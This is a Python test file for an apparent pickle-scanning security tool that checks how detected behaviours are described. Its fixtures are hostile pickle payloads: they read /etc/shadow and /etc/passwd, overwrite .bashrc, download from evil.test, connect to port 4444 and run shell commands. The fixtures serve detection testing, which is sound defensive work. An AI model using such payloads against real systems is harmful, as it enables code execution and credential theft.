"""Behaviours name the right argument: the file written, the source copied, the host contacted, the whole argv.

The mapping from argument positions to roles is data (``rules/policy/arguments.toml``); these tests pin the
wording a reviewer reads for the calls the red team found described wrongly, and check the data file itself.
"""

from __future__ import annotations

import pickle
import re
import struct

import pytest
from pk import P2, analyse, bu, call, g

from modelsieve.model import BehaviourKind
from modelsieve.rules.policy import load_policy


def _int(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def _list(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.LIST


def _method(obj: bytes, name: str, *args: bytes) -> bytes:
    return call(call(g("builtins", "getattr"), obj, bu(name)), *args)


def _pkl001(payload: bytes) -> dict[str, tuple[BehaviourKind, str]]:
    analysis = analyse(P2 + payload + pickle.STOP)
    return {
        f.subject: (f.behaviour.kind, f.behaviour.description)
        for f in analysis.findings
        if f.rule_id == "PKL001" and f.behaviour is not None
    }


CASES = [
    pytest.param(
        call(g("shutil", "copyfile"), bu("/dev/null"), bu("/srv/popen-gw0/marker")),
        "shutil.copyfile",
        BehaviourKind.WRITES_FILE,
        "writes file /srv/popen-gw0/marker (a copy of /dev/null)",
        id="shutil_copyfile_writes_dst_even_when_its_path_has_mode_letters",
    ),
    pytest.param(
        call(g("shutil", "copyfile"), bu("/etc/passwd"), bu("/tmp/r")),
        "shutil.copyfile",
        BehaviourKind.WRITES_FILE,
        "writes file /tmp/r (a copy of /etc/passwd)",
        id="shutil_copyfile_dst_without_mode_letters",
    ),
    pytest.param(
        call(g("os", "rename"), bu("/tmp/a"), bu("/home/u/.bashrc")),
        "os.rename",
        BehaviourKind.WRITES_FILE,
        "writes file /home/u/.bashrc (moves /tmp/a there)",
        id="os_rename",
    ),
    pytest.param(
        call(g("os", "replace"), bu("/tmp/src"), bu("/tmp/dst")),
        "os.replace",
        BehaviourKind.WRITES_FILE,
        "writes file /tmp/dst (moves /tmp/src there)",
        id="os_replace",
    ),
    pytest.param(
        call(g("shutil", "unpack_archive"), bu("/tmp/a.zip"), bu("/opt/app")),
        "shutil.unpack_archive",
        BehaviourKind.WRITES_FILE,
        "writes the files of archive /tmp/a.zip into /opt/app",
        id="shutil_unpack_archive",
    ),
    pytest.param(
        call(g("os", "symlink"), bu("/etc/hostname"), bu("/tmp/link")),
        "os.symlink",
        BehaviourKind.WRITES_FILE,
        "writes symbolic link /tmp/link pointing to /etc/hostname",
        id="os_symlink",
    ),
    pytest.param(
        call(g("tempfile", "mkstemp"), bu(""), bu(""), bu("/tmp/d")),
        "tempfile.mkstemp",
        BehaviourKind.WRITES_FILE,
        "writes (creates) a temporary file in /tmp/d",
        id="tempfile_mkstemp_in_dir",
    ),
    pytest.param(
        call(g("tempfile", "mkstemp")),
        "tempfile.mkstemp",
        BehaviourKind.WRITES_FILE,
        "writes (creates) a temporary file",
        id="tempfile_mkstemp_default_dir",
    ),
    pytest.param(
        call(g("urllib.request", "urlretrieve"), bu("file:///dev/null"), bu("/tmp/m")),
        "urllib.request.urlretrieve",
        BehaviourKind.WRITES_FILE,
        "writes file /tmp/m (a copy of file:///dev/null)",
        id="urlretrieve_local_url",
    ),
    pytest.param(
        call(g("urllib.request", "urlretrieve"), bu("https://evil.test/x.py"), bu("/tmp/x.py")),
        "urllib.request.urlretrieve",
        BehaviourKind.NETWORK,
        "downloads https://evil.test/x.py and writes it to file /tmp/x.py",
        id="urlretrieve_network_url",
    ),
    pytest.param(
        _method(call(g("http.client", "HTTPConnection"), bu("203.0.113.7")), "request", bu("GET"), bu("/x")),
        "http.client.HTTPConnection.request",
        BehaviourKind.NETWORK,
        "sends an HTTP GET request for /x to 203.0.113.7",
        id="http_client_request_names_the_host",
    ),
    pytest.param(
        call(g("socket", "create_connection"), bu("203.0.113.7") + _int(4444) + pickle.TUPLE2),
        "socket.create_connection",
        BehaviourKind.NETWORK,
        "connects to 203.0.113.7:4444",
        id="socket_create_connection_address",
    ),
    pytest.param(
        call(g("builtins", "open"), bu("/etc/shadow")),
        "builtins.open",
        BehaviourKind.READS_FILE,
        "reads file /etc/shadow",
        id="open_default_mode_reads",
    ),
    pytest.param(
        call(g("builtins", "open"), bu("/tmp/w"), bu("rb")),
        "builtins.open",
        BehaviourKind.READS_FILE,
        "reads file /tmp/w",
        id="open_rb_reads",
    ),
    pytest.param(
        call(g("builtins", "open"), bu("/tmp/x"), bu("a")),
        "builtins.open",
        BehaviourKind.WRITES_FILE,
        "writes file /tmp/x",
        id="open_append_writes",
    ),
    pytest.param(
        _method(call(g("builtins", "open"), bu("/tmp/x"), bu("w")), "write", bu("pwned")),
        "builtins.open.write",
        BehaviourKind.WRITES_FILE,
        "writes `pwned` to file /tmp/x",
        id="open_write_names_file_and_data",
    ),
    pytest.param(
        call(g("os", "open"), bu("/tmp/f"), _int(0o101)),
        "os.open",
        BehaviourKind.WRITES_FILE,
        "writes file /tmp/f",
        id="os_open_o_creat_writes",
    ),
    pytest.param(
        call(g("os", "open"), bu("/etc/passwd"), _int(0)),
        "os.open",
        BehaviourKind.READS_FILE,
        "reads file /etc/passwd",
        id="os_open_o_rdonly_reads",
    ),
    pytest.param(
        call(g("tarfile", "open"), bu("/tmp/a.tar.xz"), bu("r:xz")),
        "tarfile.open",
        BehaviourKind.READS_FILE,
        "reads archive /tmp/a.tar.xz",
        id="tarfile_read_mode_with_xz_compression",
    ),
    pytest.param(
        call(g("tarfile", "open"), bu("/tmp/b.tgz"), bu("w:gz")),
        "tarfile.open",
        BehaviourKind.WRITES_FILE,
        "writes archive /tmp/b.tgz",
        id="tarfile_write_mode",
    ),
    pytest.param(
        call(g("types", "MethodType"), g("os", "system"), bu("id")),
        "types.MethodType",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `id` (os.system called through types.MethodType)",
        id="methodtype_bound_os_system_is_a_command",
    ),
    pytest.param(
        call(g("uuid", "_get_command_stdout"), bu("touch"), bu("/tmp/m")),
        "uuid._get_command_stdout",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `touch /tmp/m`",
        id="uuid_get_command_stdout_whole_argv",
    ),
    pytest.param(
        call(g("os", "posix_spawnp"), bu("touch"), _list(bu("touch"), bu("/tmp/m")), pickle.EMPTY_DICT),
        "os.posix_spawnp",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `touch /tmp/m`",
        id="posix_spawnp_whole_argv",
    ),
    pytest.param(
        call(g("os", "spawnlp"), _int(0), bu("touch"), bu("touch"), bu("/tmp/m")),
        "os.spawnlp",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `touch /tmp/m`",
        id="spawnlp_whole_argv",
    ),
    pytest.param(
        call(g("os", "execle"), bu("/bin/sh"), bu("sh"), bu("-c"), bu("id"), pickle.EMPTY_DICT),
        "os.execle",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `sh -c id`",
        id="execle_argv_without_env",
    ),
    pytest.param(
        call(g("subprocess", "Popen"), _list(bu("ls"), bu("-l"))),
        "subprocess.Popen",
        BehaviourKind.RUNS_COMMAND,
        "runs shell command `ls -l`",
        id="popen_list",
    ),
    pytest.param(
        call(g("os", "system"), bu("pip install evilpkg")),
        "os.system",
        BehaviourKind.INSTALLS_PACKAGE,
        "installs package via pip: `pip install evilpkg`",
        id="command_reading_still_applies",
    ),
]


@pytest.mark.parametrize(("payload", "subject", "kind", "text"), CASES)
def test_behaviour_names_the_right_argument(payload: bytes, subject: str, kind: BehaviourKind, text: str) -> None:
    found = _pkl001(payload)
    assert found.get(subject) == (kind, text), found


def test_unlisted_writer_shows_every_argument_instead_of_guessing() -> None:
    """A file-writing callable arguments.toml does not describe must not call its second argument a mode."""
    found = _pkl001(call(g("shutil", "copy_something_new"), bu("/a"), bu("/b")))
    kind, text = found["shutil.copy_something_new"]
    assert kind is BehaviourKind.WRITES_FILE
    assert "'/a'" in text and "'/b'" in text


_PLACEHOLDER = re.compile(r"\{(\w+)\}")


def test_arguments_data_is_consistent() -> None:
    """Every placeholder of every template is an argument or has a default; every shape has something to say."""
    policy = load_policy()
    assert "arguments 20" in policy.version
    shapes = {**policy.shapes, **dict(policy.shape_patterns)}
    assert len(shapes) > 100
    for name, shape in shapes.items():
        templates = [t for t in (shape.text, shape.read_text, shape.local_text) if t]
        assert templates or "command" in shape.args or "forward" in shape.args, name
        for template in templates:
            for placeholder in _PLACEHOLDER.findall(template):
                assert placeholder in shape.args or placeholder in shape.defaults, (name, placeholder)
        if shape.read_text:
            assert "mode" in shape.args, name
        if shape.local_text:
            assert "url" in shape.args, name


def test_exact_shape_beats_a_pattern() -> None:
    policy = load_policy()
    spawnv = policy.shape("os.spawnv")
    spawnl = policy.shape("os.spawnl")
    assert spawnv is not None and spawnl is not None
    assert spawnv.args["command"].position == 2 and not spawnv.args["command"].rest
    assert spawnl.args["command"].position == 2 and spawnl.args["command"].rest
    assert policy.shape("os.getpid") is None
